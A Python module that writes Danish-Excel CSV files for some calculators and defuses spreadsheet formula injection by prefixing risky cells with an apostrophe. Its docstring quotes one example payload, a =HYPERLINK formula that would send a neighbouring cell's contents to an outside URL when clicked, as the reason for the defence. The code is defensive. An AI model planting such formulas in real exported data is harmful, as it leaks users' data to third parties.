"""Every CSV the calculators write (a result, »Følg op«, the cluster's overview, the cluster data file), as Danish
Excel opens it: `;` between cells, CRLF line ends and a byte order mark first.

Quoted as the csv module's QUOTE_MINIMAL does, without importing it, which the browser's worker would pay for at
start. Cells are written as given: the callers decide on decimal commas and leave thousands dots out, so that no
spreadsheet takes "1.234" for a decimal.

A text cell that begins with =, +, -, @, a tab or a carriage return is run by Excel as a formula, quoted or not
(OWASP, "CSV Injection"): a cluster name `=HYPERLINK("http://…?d="&B2;"Klik")` would send a neighbouring cell away
when clicked. Such a cell gets a leading apostrophe, as OWASP advises, so Excel shows it as text. Numbers are left
alone: »Følg op«'s change of -51,8 stays a number.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

BOM = "\ufeff"  # Excel reads a BOM-less CSV as Windows-1252 and garbles æ, ø and å
SEPARATOR = ";"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"-?\d+(,\d+)?")  # as the writers write numbers: decimal comma, no thousands dots


def csv_text(rows: Iterable[Iterable[str]]) -> str:
    """The file's text, BOM first; an empty row is an empty line."""
    return BOM + "".join(SEPARATOR.join(map(csv_field, row)) + "\r\n" for row in rows)


def csv_field(text: str) -> str:
    text = defuse_formula(text)
    if SEPARATOR in text or '"' in text or "\r" in text or "\n" in text:
        return '"' + text.replace('"', '""') + '"'
    return text


def defuse_formula(text: str) -> str:
    """The cell as a spreadsheet will show it as text: a leading apostrophe before what would start a formula."""
    if text.startswith(FORMULA_START) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def starts_a_formula(text: str) -> bool:
    """Whether a spreadsheet would read this text as a formula (the cluster data file refuses such names)."""
    return defuse_formula(text) != text
